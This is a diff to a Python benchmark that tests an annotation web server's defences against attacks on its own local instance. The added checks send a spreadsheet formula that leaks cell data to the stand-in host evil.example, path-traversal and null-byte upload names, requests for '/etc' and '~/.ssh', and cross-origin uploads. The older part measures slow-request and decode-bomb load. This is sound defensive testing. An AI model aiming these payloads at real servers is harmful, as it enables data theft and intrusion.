@@ -1,22 +1,32 @@
-"""What attacks on the annotation page cost the people who answer: idle sockets, slow bodies, bombs.
+"""What attacks on the annotation page come to: what they get, and what they cost those who answer.
 
     python benchmarks/annotation_attacks.py
+    python benchmarks/annotation_attacks.py --quick  # a turn of each, nothing is written
 
-writes ``benchmarks/results/annotation_attacks.json``. The server runs in its own process, as
-``comes annotate serve``, and may open 256 files (``ulimit -n 256``). Ten robots, quick people,
-answer cards. Turns without and with an attack alternate, so that a noisy machine disturbs both
-alike; quantiles are over the answers of all turns. The attackers are threads of one more process,
-which share the two cores with server and robots:
+writes ``benchmarks/results/annotation_attacks.json``. First come requests that want something they
+must not have: formulas in exports, notes on the cards of others, the name of the lead, texts that a
+database cannot store, pages of the lead, files and paths on the server. Each is held or not. The
+tables of ``tests/test_annotate_guard.py`` have the others.
+
+Then the cost: the server runs in its own process, as ``comes annotate serve``, and starts with 256
+files (``ulimit -Sn 256``). Ten robots, quick people, answer cards. Turns without and with an attack
+alternate, so that a noisy machine disturbs both alike; quantiles are over the answers of all turns.
+The attackers are threads of one more process, which share the cores with server and robots:
 
 - idle sockets: 300 connections are kept open without a word; one that is cut is opened again.
 - slow headers and slow bodies: 300 requests, each a byte a second.
 - decode bombs: six at once ask for PNGs of 13000 x 13000 pixels (164 kB each), never the same.
 
-The most resident memory of the server during the bombs is measured, too, and the bytes and
-milliseconds of a picture of 24 megapixels, the first time and later.
+The server itself ends none of the slow ones, which is the work of a proxy; it has 1000 places, and
+tells everybody to come again (503) when they are taken. The most resident memory of the server
+during the bombs is measured, too, and the bytes and milliseconds of a picture of 24 megapixels, the
+first time and later.
 """
 
+import argparse
+import csv
 import http.client
+import json
 import multiprocessing
 import os
 import resource
@@ -32,16 +42,18 @@ from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
 from pathlib import Path
 from typing import Any
+from urllib.parse import parse_qs, urlsplit
 
 import numpy as np
 from measuring import significant, write
 from PIL import Image
-from robots import run_robots
+from robots import COOKIE, run_robots
 
-from comes.annotate import create_project
+from comes.annotate import create_project, serve_in_thread
+from comes.annotate.links import make_link
 
 REPEATS = 6
-FILES = 256  # that the server may open
+FILES = 256  # with which the server starts; it may ask for more
 ROBOTS, PAUSE, ANSWERS = 10, 0.25, 15
 SOCKETS = 300
 BOMBS, SIDE, AT_ONCE = 400, 13_000, 6
@@ -126,6 +138,158 @@ ATTACKS: dict[str, Attack] = {
     "slow_bodies": slow_bodies,
     "decode_bombs": bombs,
 }
+
+
+def ask(address: str, method: str, path: str, body: Any = None, **headers: str) -> Any:
+    """Return the reply to a request and its content; what is not json goes as a file."""
+    connection = http.client.HTTPConnection(urlsplit(address).netloc, timeout=60)
+    kind = "application/octet-stream" if isinstance(body, bytes) else "application/json"
+    content = body if isinstance(body, bytes) else json.dumps(body)
+    sent = {"Content-Type": kind, **headers}
+    connection.request(method, path, None if body is None else content, sent)
+    reply = connection.getresponse()
+    found = reply, reply.read()
+    connection.close()
+    return found
+
+
+def join_as(address: str, token: str, name: Any) -> tuple[int, str]:
+    """Return the status of joining under a name, and the cookies that come of it."""
+    reply, _ = ask(address, "POST", "/api/join", {"name": name}, Cookie=f"{COOKIE}={token}")
+    own = (reply.getheader("set-cookie") or "").partition(";")[0]
+    return reply.status, f"{COOKIE}={token}; {own}"
+
+
+FORMULA = '=HYPERLINK("http://evil.example?"&A1;"click")'
+LEADS = [
+    "/lead",
+    "/lead/answers",
+    "/lead/people",
+    "/lead/export/raw.csv",
+    "/setup",
+    "/lead/",
+    "/LEAD",
+]
+CHANGES = ["decide", "note", "person", "freeze", "link", "revoke", "asking", "hints"]
+
+
+def try_requests(home: Path) -> dict[str, bool]:
+    """Return which requests are held: that want what they must not have."""
+    held: dict[str, bool] = {}
+    items = "".join(f"=1+{k},@text {k}\n" for k in range(60))
+    (home / "items.csv").write_text(f"item,text\n{items}")
+    (home / "classes.txt").write_text("-class\n+class\n")
+    project = create_project(home / "tried", home / "items.csv", home / "classes.txt", rate=1)
+    annotator, lead = (make_link(project, role, role) for role in ("annotator", "lead"))
+    with serve_in_thread(project, needs_token=True) as address:
+
+        def post(path: str, cookies: str, body: Any) -> Any:
+            reply, content = ask(address, "POST", path, body, Cookie=cookies)
+            return reply.status, json.loads(content)
+
+        status, eve = join_as(address, annotator, FORMULA)
+        _, bob = join_as(address, annotator, "Bob")
+        tabs = {"eve": {"tab": "tab-of-eve"}, "bob": {"tab": "tab-of-bob"}}
+        mine = post("/api/cards", eve, tabs["eve"])[1]["cards"][0]["card"]
+        his = post("/api/cards", bob, tabs["bob"])[1]["cards"][0]["card"]
+        note = {**tabs["eve"], "card": mine, "text": "@SUM(A1)"}
+        wrote = post("/api/notes", eve, note)[0]
+        given = {"card": mine, "answer": "no", "key": "key-of-eve", "seconds": 1.0}
+        said = post("/api/answers", eve, {**tabs["eve"], "answers": [given]})[0]
+        if (status, wrote, said) != (200, 200, 200):
+            raise RuntimeError(f"Eve could not work: {status}, {wrote}, {said}")
+        cookies = f"{COOKIE}={lead}"
+        for what in ("answers", "raw"):
+            for ending in ("csv", "xlsx"):
+                path = home / f"{what}.{ending}"
+                path.write_bytes(
+                    ask(address, "GET", f"/lead/export/{path.name}", Cookie=cookies)[1]
+                )
+                held[f"formulas in {path.name}"] = not find_formulas(path)
+        for name in ("the lead", "The  Lead", "THELEAD", "a\0b", "\ud800", "a\nb", "\u202eAda"):
+            held[f"join as {name!r}"] = join_as(address, annotator, name)[0] == 422
+        for about, body in {
+            "another's card": {**tabs["eve"], "card": his, "text": "x"},
+            "another's card, in his tab": {**tabs["bob"], "card": his, "text": "x"},
+            "a card that is answered": note,
+            "a card that nobody has": {**tabs["eve"], "card": 119, "text": "x"},
+        }.items():
+            held[f"note on {about}"] = post("/api/notes", eve, body)[0] in (404, 409)
+        for text in ("a\0b", "\udfff"):
+            body = {**tabs["bob"], "card": his, "text": text}
+            held[f"note {text!r}"] = post("/api/notes", bob, body)[0] == 422
+        for path in LEADS:
+            held[f"annotator: {path}"] = ask(address, "GET", path, Cookie=eve)[0].status in (
+                403,
+                404,
+            )
+        for name in CHANGES:
+            held[f"annotator: {name}"] = post(f"/api/lead/{name}", eve, {})[0] == 403
+        uploads = ["/api/lead/table/decisions/a.csv", "/api/setup/files/a.csv", "/setup/../a.csv"]
+        for path in uploads:
+            status = ask(address, "PUT", path, b"item,label,answer", Cookie=eve)[0].status
+            held[f"annotator: PUT {path}"] = status in (403, 404, 415)
+            status = ask(address, "PUT", path, b"item,label,answer")[0].status
+            held[f"nobody: PUT {path}"] = status == 401
+        for name in (
+            "..%2f..%2fevil.csv",
+            "%00.csv",
+            ".hidden.csv",
+            "a%5cb.csv",
+            "a" * 300 + ".csv",
+        ):
+            path = f"/api/lead/table/decisions/{name}"
+            status = ask(address, "PUT", path, b"item", Cookie=cookies)[0].status
+            held[f"upload as {name[:30]}"] = status in (404, 422)
+        sent = ask(address, "PUT", uploads[0], b"", Cookie=cookies, **{"Content-Length": "9" * 9})
+        held["upload of a gigabyte, as it says"] = sent[0].status == 413
+        evil = {"Cookie": cookies, "Origin": "http://evil.example"}
+        held["upload from another site"] = (
+            ask(address, "PUT", uploads[0], b"", **evil)[0].status == 403
+        )
+    project.engine.dispose()
+    return held | try_setup(home)
+
+
+def find_formulas(path: Path) -> list[Any]:
+    """Return the cells of an export that a spreadsheet would compute."""
+    if path.suffix == ".csv":
+        rows = csv.reader(path.read_text().splitlines())
+        return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
+    import openpyxl
+
+    sheet = openpyxl.load_workbook(path).active
+    return [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+def try_setup(home: Path) -> dict[str, bool]:
+    """Return which requests are held by a server that has no project yet."""
+    held: dict[str, bool] = {}
+    words = ["annotate", "serve", str(home / "new"), "--port", "0", "--token"]
+    command = [sys.executable, "-m", "comes", *words]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd=home) as server:
+        try:
+            assert server.stdout is not None
+            link = urlsplit(server.stdout.readline().split()[-1])
+            address, cookies = (
+                f"http://{link.netloc}",
+                f"{COOKIE}={parse_qs(link.query)['token'][0]}",
+            )
+            for path in ("/setup", "/", "/api/setup/items", "/lead"):
+                held[f"setup without a token: {path}"] = ask(address, "GET", path)[0].status == 401
+            for name in ("..%2fevil.csv", ".bashrc", "evil.sh", "a%00.csv"):
+                status = ask(address, "PUT", f"/api/setup/files/{name}", b"x", Cookie=cookies)[
+                    0
+                ].status
+                held[f"setup: upload as {name}"] = status in (404, 422)
+            for place in ("/etc", "/", "../..", "~/.ssh", f"{home}/../..", "a\0b"):
+                body = {"place": place}
+                status = ask(address, "POST", "/api/setup/items", body, Cookie=cookies)[0].status
+                held[f"setup: items of {place!r}"] = status == 422
+        finally:
+            server.kill()
+    held["setup: nothing is left"] = not (home / "new").exists() and not list(home.glob("evil*"))
+    return held
 
 
 def measure(address: str) -> list[float]:
@@ -262,7 +426,8 @@ def running_server(folder: Path) -> Iterator[tuple[str, int]]:
         free.bind(("127.0.0.1", 0))
         port = free.getsockname()[1]
     command = [sys.executable, "-m", "comes", "annotate", "serve", str(folder), "--port", str(port)]
-    few = lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (FILES, FILES))  # noqa: E731
+    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    few = lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (FILES, most))  # noqa: E731
     with subprocess.Popen(command, stdout=subprocess.DEVNULL, preexec_fn=few) as server:
         try:
             wait_for_reply(port)
@@ -282,9 +447,14 @@ def wait_for_reply(port: int) -> None:
 
 
 def main() -> None:
-    """Measure, and write medians."""
+    """Try and measure, and write medians."""
+    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
+    parser.add_argument("--quick", action="store_true", help="a turn of each, nothing is written")
+    is_quick, repeats = parser.parse_args().quick, REPEATS
+    if is_quick:
+        repeats = 1
     result: dict[str, Any] = {
-        "repeats": REPEATS,
+        "repeats": repeats,
         "robots": ROBOTS,
         "sockets": SOCKETS,
         "files": FILES,
@@ -292,9 +462,13 @@ def main() -> None:
     }
     with tempfile.TemporaryDirectory() as name:
         home = Path(name)
+        held = try_requests(home)
+        result["requests"], result["not_held"] = len(held), [one for one in held if not held[one]]
+        print(f"{sum(held.values())} of {len(held)} requests are held; not:", result["not_held"])
         photo = draw_pictures(home / "photos")
         (home / "classes.txt").write_text("".join(f"class {k}\n" for k in range(10)))
-        result["init_of_1000_photos_seconds"] = measure_init(home)
+        if not is_quick:
+            result["init_of_1000_photos_seconds"] = measure_init(home)
         project = create_project(home / "project", home / "photos", home / "classes.txt", rate=1)
         project.engine.dispose()
         with running_server(home / "project") as (address, server):
@@ -302,13 +476,14 @@ def main() -> None:
             result["photo"] = measure_picture(address, photo)
             print(result["photo"], flush=True)
             turns: dict[str, list[dict[str, Any]]] = {name: [] for name in ATTACKS}
-            for turn in range(REPEATS):
+            for turn in range(repeats):
                 for name, attack in ATTACKS.items():
                     turns[name].append(take_turn(address, server, attack, turn))
             for name in ATTACKS:
                 result[name] = summarise(turns[name])
                 print(name, result[name], flush=True)
-    write("annotation_attacks", result)
+    if not is_quick:
+        write("annotation_attacks", result)
 
 
 if __name__ == "__main__":
